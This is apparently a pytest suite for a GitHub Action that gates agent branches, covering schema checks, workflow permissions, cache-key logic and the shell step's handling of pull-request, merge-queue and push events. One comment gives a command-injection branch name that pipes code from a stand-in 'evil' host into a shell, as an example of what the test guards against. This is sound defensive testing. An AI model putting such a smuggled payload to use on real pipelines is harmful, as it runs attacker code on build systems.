"""The GitHub Action and the example workflow: schemas, and the shell step's logic.

The shell step runs against real clones; only agentgate itself is replaced by a
stub that prints what it was asked, so these tests do not depend on the gate.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.gitutil import Repo, git

ROOT = Path(__file__).resolve().parent.parent
CI = ROOT / "ci"
STUB = """#!/usr/bin/env bash
echo "args: $*"
git for-each-ref --format='branch: %(refname:short)' refs/heads/
exit "${STUB_RC:-0}"
"""


def _check_jsonschema(schema: str, path: Path) -> subprocess.CompletedProcess[str]:
    exe = Path(sys.executable).parent / "check-jsonschema"
    return subprocess.run([str(exe), "--builtin-schema", schema, str(path)], capture_output=True, text=True)


def test_action_validates_against_githubs_action_schema() -> None:
    proc = _check_jsonschema("vendor.github-actions", CI / "action.yml")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_example_workflow_validates_against_githubs_workflow_schema() -> None:
    proc = _check_jsonschema("vendor.github-workflows", CI / "agentgate.yml")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_example_workflow_asks_only_for_what_it_needs() -> None:
    text = (CI / "agentgate.yml").read_text(encoding="utf-8")
    assert "permissions:\n  contents: read\n" in text
    assert text.count("security-events: write") == 1  # the optional SARIF job only
    assert text.count("fetch-depth: 0") == 3


def test_the_cache_steps_keep_only_what_object_ids_key_and_save_only_when_told() -> None:
    from ruamel.yaml import YAML

    steps = {s["name"]: s for s in YAML(typ="safe").load((CI / "action.yml").read_text())["runs"]["steps"]}
    restore, save = steps["Restore agentgate's caches"], steps["Save agentgate's caches"]
    # actions/cache finds an entry only with the very same paths.
    assert restore["with"]["path"] == save["with"]["path"]
    assert restore["with"]["path"].split() == [f".git/agentgate/{d}" for d in
                                               ("cs", "pairs", "overlaps", "history", "symbols", "policy")]
    assert (restore["uses"], save["uses"]) == ("actions/cache/restore@v4", "actions/cache/save@v4")
    assert restore["if"] == "steps.cache.outputs.restore == 'true'"
    assert save["if"] == "steps.cache.outputs.save == 'true'"


def _cache_key(clone: Path, tmp_path: Path, **env: str) -> dict[str, str]:
    out = tmp_path / "cache-output"
    out.write_text("")
    full = {**os.environ, "GITHUB_OUTPUT": str(out), "RUNNER_OS": "Linux", **env}
    proc = subprocess.run(["bash", str(CI / "cache-key.sh")], cwd=clone, env=full, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return dict(line.split("=", 1) for line in out.read_text().splitlines())


@pytest.mark.parametrize(("event", "env", "save"), [
    ("pull_request", {"GITHUB_BASE_REF": "main"}, "false"),
    ("pull_request_target", {"GITHUB_BASE_REF": "main"}, "false"),
    ("push", {"GITHUB_REF_NAME": "main"}, "true"),
    ("schedule", {"GITHUB_REF_NAME": "main"}, "true"),
    ("push", {"GITHUB_REF_NAME": "main", "GATE_TESTS": "true"}, "false"),
    ("push", {"GITHUB_REF_NAME": "agent/alice/fix", "GATE_TARGET": "main"}, "false"),
    ("workflow_dispatch", {"GITHUB_REF_NAME": "main", "GATE_TARGET": "main"}, "false"),
])
def test_only_a_run_on_the_target_without_tests_saves_the_cache(
    origin: Path, tmp_path: Path, event: str, env: dict[str, str], save: str
) -> None:
    clone = _checkout(origin, tmp_path / "clone", "origin/main")
    main = git(clone, "rev-parse", "origin/main").strip()
    assert _cache_key(clone, tmp_path, GITHUB_EVENT_NAME=event, **env) == {
        "restore": "true", "save": save, "key": f"agentgate-1-Linux-main:{main}", "prefix": "agentgate-1-Linux-main:"}


def test_no_cache_without_a_target_commit_or_when_turned_off(origin: Path, tmp_path: Path) -> None:
    clone = _checkout(origin, tmp_path / "clone", "origin/main")
    assert _cache_key(clone, tmp_path, GITHUB_EVENT_NAME="pull_request", GITHUB_BASE_REF="gone")["restore"] == "false"
    off = _cache_key(clone, tmp_path, GITHUB_EVENT_NAME="push", GITHUB_REF_NAME="main", GATE_CACHE="false")
    assert (off["restore"], off["save"]) == ("false", "false")


def test_action_never_expands_inputs_inside_a_script() -> None:
    # ${{ }} in `run:` is pasted into the script before bash reads it: a branch
    # name like `a";curl evil|sh;"` would run. Inputs go through env only.
    lines = (CI / "action.yml").read_text(encoding="utf-8").splitlines()
    in_run = False
    for line in lines:
        stripped = line.strip()
        if stripped.startswith("run:"):
            in_run = True
            assert "${{" not in stripped
        elif in_run and (stripped.startswith("- ") or (stripped.endswith(":") and not line.startswith(" " * 8))):
            in_run = False
        elif in_run:
            assert "${{" not in line


@pytest.fixture
def origin(tmp_path: Path) -> Path:
    work = Repo.init(tmp_path / "work")
    work.commit("initial", {"README.md": "x\n"})
    work.branch("agent/alice/fix")
    work.commit("alice", {"src/billing/a.py": "a\n"})
    work.branch("gh-readonly-queue/main/pr-7-abc", "agent/alice/fix")
    bare = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(work.path), str(bare))
    return bare


def _run(cwd: Path, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[str]:
    stub = tmp_path / "agentgate-stub"
    stub.write_text(STUB)
    stub.chmod(0o755)
    full = {**os.environ, "AGENTGATE": str(stub), "GITHUB_ACTIONS": "true", **env}
    return subprocess.run(["bash", str(CI / "run-check.sh")], cwd=cwd, env=full, capture_output=True, text=True)


def _checkout(origin: Path, dest: Path, ref: str, *extra: str) -> Path:
    git(origin.parent, "clone", "-q", *extra, f"file://{origin}", str(dest))
    git(dest, "checkout", "-q", "--detach", ref)
    return dest


def test_pull_request_checks_the_head_against_the_base(origin: Path, tmp_path: Path) -> None:
    clone = _checkout(origin, tmp_path / "clone", "origin/agent/alice/fix")
    out_file = tmp_path / "github_output"
    proc = _run(
        clone,
        tmp_path,
        GITHUB_EVENT_NAME="pull_request",
        GITHUB_HEAD_REF="agent/alice/fix",
        GITHUB_BASE_REF="main",
        GITHUB_OUTPUT=str(out_file),
        STUB_RC="3",
    )
    assert proc.returncode == 3, proc.stderr
    assert proc.stdout.splitlines() == [
        "args: check agent/alice/fix --format github --target main",
        "branch: agent/alice/fix",
        "branch: gh-readonly-queue/main/pr-7-abc",
        "branch: main",
    ]
    assert out_file.read_text() == "exit-code=3\nverdict=ask\n"


def test_merge_group_takes_head_and_base_from_the_event(origin: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    git(origin.parent, "clone", "-q", "-b", "gh-readonly-queue/main/pr-7-abc", f"file://{origin}", str(clone))
    event = tmp_path / "event.json"
    event.write_text(
        json.dumps(
            {
                "merge_group": {
                    "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-abc",
                    "base_ref": "refs/heads/main",
                }
            }
        )
    )
    proc = _run(
        clone,
        tmp_path,
        GITHUB_EVENT_NAME="merge_group",
        GITHUB_EVENT_PATH=str(event),
        GATE_TESTS="true",
        GATE_FORMAT="sarif",
        GATE_OUTPUT="out.sarif",
        STUB_RC="1",
    )
    assert proc.returncode == 1, proc.stderr
    assert proc.stdout.splitlines()[0] == (
        "args: check gh-readonly-queue/main/pr-7-abc --format sarif --target main --output out.sarif --tests"
    )


def test_shallow_checkout_is_refused_with_the_fix(origin: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    git(origin.parent, "clone", "-q", "--depth", "1", "-b", "agent/alice/fix", f"file://{origin}", str(clone))
    proc = _run(
        clone, tmp_path, GITHUB_EVENT_NAME="pull_request", GITHUB_HEAD_REF="agent/alice/fix", GITHUB_BASE_REF="main"
    )
    assert proc.returncode == 4
    assert proc.stdout.splitlines() == [
        "::error title=agentgate::the checkout is shallow, so agentgate cannot find merge-bases or the other "
        "agent branches. Use actions/checkout with 'fetch-depth: 0'."
    ]


def test_no_branch_outside_a_pull_request(origin: Path, tmp_path: Path) -> None:
    clone = _checkout(origin, tmp_path / "clone", "origin/main")
    proc = _run(clone, tmp_path, GITHUB_EVENT_NAME="push")
    assert proc.returncode == 4
    assert "no branch to check" in proc.stdout


def test_local_branches_are_not_moved_outside_actions(origin: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    git(origin.parent, "clone", "-q", f"file://{origin}", str(clone))
    git(clone, "branch", "-f", "agent/alice/fix", "origin/main")  # local work that differs from origin
    before = git(clone, "rev-parse", "agent/alice/fix")
    proc = _run(clone, tmp_path, GITHUB_ACTIONS="", GATE_BRANCH="agent/alice/fix")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == "args: check agent/alice/fix --format github"
    assert git(clone, "rev-parse", "agent/alice/fix") == before


@pytest.mark.parametrize(("rc", "code", "verdict"), [("0", 0, "allow"), ("1", 0, "block"), ("3", 0, "ask"),
                                                     ("4", 4, "error")])
def test_a_push_to_the_target_warms_every_branch_and_fails_only_when_agentgate_cannot_run(
    origin: Path, tmp_path: Path, rc: str, code: int, verdict: str
) -> None:
    clone = tmp_path / "clone"
    git(origin.parent, "clone", "-q", f"file://{origin}", str(clone))
    out_file = tmp_path / "github_output"
    proc = _run(clone, tmp_path, GITHUB_EVENT_NAME="push", GITHUB_REF_NAME="main", GATE_TESTS="true",
                GITHUB_OUTPUT=str(out_file), STUB_RC=rc)
    assert proc.returncode == code, proc.stderr
    assert proc.stdout.splitlines()[0] == "args: check --all --format text --target main"  # never --tests
    assert out_file.read_text() == f"exit-code={rc}\nverdict={verdict}\n"
